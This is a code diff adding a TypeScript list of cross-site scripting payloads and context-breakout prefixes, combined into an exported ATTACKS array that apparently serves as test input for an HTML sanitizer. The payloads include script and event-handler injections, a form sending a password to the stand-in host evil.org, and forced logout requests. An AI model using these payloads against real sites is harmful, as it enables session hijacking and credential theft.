@@ -1,0 +1,50 @@
+/** What somebody types who wants others' browsers to do something: each breaks out of another place of a page. */
+const SEEDS = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg/onload=alert(1)>',
+  '<svg><script>alert(1)</script>',
+  '<iframe srcdoc="<b>">',
+  '<object data=//evil.org>',
+  '<embed src=//evil.org>',
+  '<base href=//evil.org/>',
+  '<link rel=stylesheet href=//evil.org>',
+  '<meta http-equiv=refresh content=0>',
+  '<form action=//evil.org><input name=password>',
+  '<a href=javascript:alert(1)>x</a>',
+  '<div hx-get=/ hx-trigger=load>',
+  '<p data-hx-post=/logout>',
+  '<b id=composer name=csrf style=position:fixed>',
+  '<template shadowrootmode=open>',
+  '<math><mi xlink:href=data:,x>',
+  '<textarea autofocus onfocus=alert(1)>',
+  '<style>*{display:none}</style>',
+  '<warren-island name=Shell props={}>',
+  '<!--><script>alert(1)</script>',
+  '<plaintext>',
+  '<x onclick=alert(1)>',
+  'javascript:alert(1)',
+  'data:text/html,<b>',
+  '[x](javascript:alert(1))',
+  '![x](https://evil.org/a.png)',
+  '&lt;script&gt;&#60;b&#62;',
+  '","html":"<b>x</b>","x":"',
+  '{{7*7}}#{7*7}<%=7%>',
+]
+
+/** Out of a tag, an attribute of either quote, a title, a script, a comment, a text field, an object of JSON. */
+const DOORS = [
+  '',
+  '">',
+  "'>",
+  '</title>',
+  '</script>',
+  '-->',
+  '</textarea>',
+  '" onx="',
+  '\\">',
+  '`>',
+  '\u2028',
+]
+
+export const ATTACKS: readonly string[] = DOORS.flatMap((door) => SEEDS.map((seed) => door + seed))
